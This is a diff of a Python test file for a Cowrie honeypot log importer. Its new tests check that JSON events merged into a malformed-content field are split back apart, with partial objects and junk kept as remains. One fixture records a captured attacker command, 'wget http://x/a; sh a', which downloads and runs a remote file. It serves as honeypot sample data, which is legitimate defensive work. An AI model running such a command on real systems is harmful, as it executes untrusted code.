@@ -6,12 +6,17 @@ from typing import Any
 import pytest
 
 from producers.cowrie.generator import Plan, lines
-from producers.cowrie.importing.payloads import event_line, restored
+from producers.cowrie.importing.payloads import Remains, event_lines, restored
 from tallystick.contracts.cowrie import UnreadableLine
 from tests.old_database import rewritten
 
 EVENT = {"eventid": "cowrie.command.input", "input": "wget http://x/a; sh a", "timestamp": "2026-01-01T00:00:00Z"}
 STORED = rewritten(json.dumps(EVENT).encode())
+
+
+def event_line(payload: bytes) -> bytes | Remains:
+    [line] = event_lines(payload, most=1)
+    return line
 
 
 def written(value: Any) -> bytes:
@@ -100,3 +105,35 @@ def test_what_holds_no_object_is_refused(payload: bytes, reason: str) -> None:
     with pytest.raises(UnreadableLine) as refused:
         event_line(payload)
     assert refused.value.reason == reason
+
+
+OBJECTS = [json.loads(line) for line in lines(Plan(events=3, seed=4))]
+PRETTY = ["\n".join(line.strip() for line in json.dumps(found, indent=4).splitlines()) for found in OBJECTS]
+HALF = PRETTY[0].partition("\n")[2]
+
+
+@pytest.mark.parametrize(
+    ("content", "parts"),
+    [
+        pytest.param("\n".join(PRETTY), [*map(written, OBJECTS)], id="objects that are spread over lines"),
+        pytest.param(
+            "\n".join(json.dumps(found) for found in OBJECTS), [*map(written, OBJECTS)], id="objects on one line each"
+        ),
+        pytest.param(
+            "\n".join((HALF, *PRETTY, "{", HALF[:30])),
+            [Remains(HALF.encode()), *map(written, OBJECTS), Remains(("{\n" + HALF[:30]).strip().encode())],
+            id="with half an object before and after",
+        ),
+        pytest.param(
+            "\n".join((PRETTY[0], "[", PRETTY[1], "junk")),
+            [written(OBJECTS[0]), Remains(b"["), written(OBJECTS[1]), Remains(b"junk")],
+            id="with other things between",
+        ),
+        pytest.param(f" {PRETTY[0]} {PRETTY[1]}", [*map(written, OBJECTS[:2])], id="one after the other on a line"),
+    ],
+)
+def test_several_objects_that_were_refused_together_come_one_by_one(content: str, parts: list[bytes | Remains]) -> None:
+    payload = written({"malformed_content": content})
+    assert event_lines(payload, most=10) == parts
+    with pytest.raises(UnreadableLine):
+        event_lines(payload, most=len(parts) - 1)
